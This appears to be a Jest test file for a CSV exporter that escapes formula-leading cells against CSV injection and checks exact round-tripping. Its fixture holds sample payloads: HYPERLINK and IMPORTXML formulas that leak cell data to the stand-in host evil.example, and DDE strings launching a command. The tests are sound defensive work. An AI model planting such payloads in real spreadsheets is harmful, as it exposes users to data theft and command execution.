/**
 * CSV exports neutralise formulas (OWASP CSV injection): a text cell that begins with =, +, -, @,
 * a tab or a carriage return, or with the escape mark ' itself, is written with a leading ';
 * import drops it, so every value round-trips exactly.
 */
import fs from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { Institution } from "../../server/src/modules/institution/institution.entity";
import { PathwayRequirement } from "../../server/src/modules/pathway/pathway-requirement.entity";
import { Program } from "../../server/src/modules/program/program.entity";
import { Requirement } from "../../server/src/modules/requirement/requirement.entity";
import { Specialty } from "../../server/src/modules/specialty/specialty.entity";
import { toCsvRow } from "../../server/src/modules/snapshot/csv";
import { FILE_ORDER } from "../../server/src/modules/snapshot/snapshot.format";
import { factories } from "../support/factories";
import { exportTo, importFrom, openTestDb, tempDir, type SnapshotTestDb } from "./helpers";

/** Text a spreadsheet would run, and text that merely starts with the escape mark. */
const HOSTILE = {
  institutionName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  city: "+1 Albany",
  title: "-2+3+cmd|' /C calc'!A0",
  description: "@SUM(1+1)*cmd|' /C calc'!A0",
  sourceNote: "\tstarts with a tab",
  specialtyName: "\rstarts with a carriage return",
  requirementName: "'quoted by hand",
  requirementDescription: "''twice",
  pathwayName: "=1+1",
  linkNote: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
};

const FORMULA_START = /^[=+\-@\t\r]/;

describe("CSV formula neutralisation", () => {
  let source: SnapshotTestDb;
  let target: SnapshotTestDb;
  let dir: string;

  beforeAll(async () => {
    [source, target] = [await openTestDb(), await openTestDb()];
    dir = tempDir();
    const f = factories(source.ds);
    const requirement = await f.requirement({
      code: "FORMULA_EXAM",
      name: HOSTILE.requirementName,
      description: HOSTILE.requirementDescription,
      scoreMin: 0,
      scoreMax: 300,
    });
    const specialty = await f.specialty({ slug: "formula-specialty", name: HOSTILE.specialtyName });
    const pathway = await f.pathway({ slug: "formula-pathway", name: HOSTILE.pathwayName }, [{ requirement }]);
    await source.ds.getRepository(PathwayRequirement).update({ pathwayId: pathway.id }, { note: HOSTILE.linkNote });
    const institution = await f.institution({
      slug: "formula-institution",
      name: HOSTILE.institutionName,
      city: HOSTILE.city,
    });
    await f.program(
      {
        slug: "formula-program",
        title: HOSTILE.title,
        description: HOSTILE.description,
        sourceNote: HOSTILE.sourceNote,
        institutionId: institution.id,
        pathwayId: pathway.id,
        positions: 3,
        imgPositions: 1,
      },
      { specialties: [specialty], requirements: [{ requirement, minimumScore: 200 }] },
    );
  });
  afterAll(async () => {
    await source.close();
    await target.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const csvFiles = (folder: string) => FILE_ORDER.map((e) => path.join(folder, `${e}.csv`));

  it("no cell of an export begins with a formula character; text that would is written with a leading '", async () => {
    const folder = path.join(dir, "first");
    await exportTo(source.ds, "csv", folder, true);
    const cells = csvFiles(folder).flatMap((file) =>
      (parse(fs.readFileSync(file, "utf8"), { columns: true }) as Record<string, string>[]).flatMap((row) =>
        Object.values(row),
      ),
    );
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    for (const value of [
      HOSTILE.institutionName,
      HOSTILE.city,
      HOSTILE.title,
      HOSTILE.description,
      HOSTILE.sourceNote,
      HOSTILE.specialtyName,
      HOSTILE.pathwayName,
    ]) {
      expect(cells).toContain(`'${value}`);
    }
    // A value that already begins with ' gets one more, so that import can drop exactly one.
    expect(cells).toContain(`''quoted by hand`);
    expect(cells).toContain(`'''twice`);
    // A link list is one JSON cell, which begins with [ whatever its notes hold; numbers stay numbers.
    const program = (
      parse(fs.readFileSync(path.join(folder, "programs.csv"), "utf8"), { columns: true }) as Record<string, string>[]
    )[0];
    expect(program.requirements).toBe('[{"code":"FORMULA_EXAM","level":"REQUIRED","minimumScore":200,"note":null}]');
    expect([program.positions, program.imgPositions]).toEqual(["3", "1"]);
    const pathway = (
      parse(fs.readFileSync(path.join(folder, "pathways.csv"), "utf8"), { columns: true }) as Record<string, string>[]
    )[0];
    expect(JSON.parse(pathway.requirements)[0].note).toBe(HOSTILE.linkNote);
  });

  it("only text cells are escaped: a negative number stays a number", () => {
    const row = toCsvRow("requirements", {
      code: "X",
      name: "-minus",
      kind: "EXAM",
      country: null,
      description: null,
      scoreMin: -5,
      scoreMax: 10,
      archivedAt: null,
    });
    expect(row.slice(0, 8)).toEqual(["X", "'-minus", "EXAM", null, null, -5, 10, null]);
  });

  it("import restores every value exactly, and exporting again gives byte-equal files", async () => {
    const first = path.join(dir, "round-trip-first");
    const { meta } = await exportTo(source.ds, "csv", first, true);
    await importFrom(target.ds, first, "replace");
    expect((await target.ds.getRepository(Institution).findOneByOrFail({ slug: "formula-institution" })).name).toBe(
      HOSTILE.institutionName,
    );
    expect(await target.ds.getRepository(Program).findOneByOrFail({ slug: "formula-program" })).toMatchObject({
      title: HOSTILE.title,
      description: HOSTILE.description,
      sourceNote: HOSTILE.sourceNote,
    });
    expect((await target.ds.getRepository(Specialty).findOneByOrFail({ slug: "formula-specialty" })).name).toBe(
      HOSTILE.specialtyName,
    );
    expect(await target.ds.getRepository(Requirement).findOneByOrFail({ code: "FORMULA_EXAM" })).toMatchObject({
      name: HOSTILE.requirementName,
      description: HOSTILE.requirementDescription,
    });
    const json = await exportTo(target.ds, "json", path.join(dir, "after.json"), true);
    expect(json.meta.sha256).toBe(meta.sha256);
    const second = path.join(dir, "second");
    await exportTo(target.ds, "csv", second, true);
    for (const [a, b] of csvFiles(first).map((file, i) => [file, csvFiles(second)[i]]))
      expect(fs.readFileSync(b)).toEqual(fs.readFileSync(a));
    expect(fs.readFileSync(path.join(second, "programs.csv"), "utf8")).toContain(`,'${HOSTILE.title},`);
  });
});
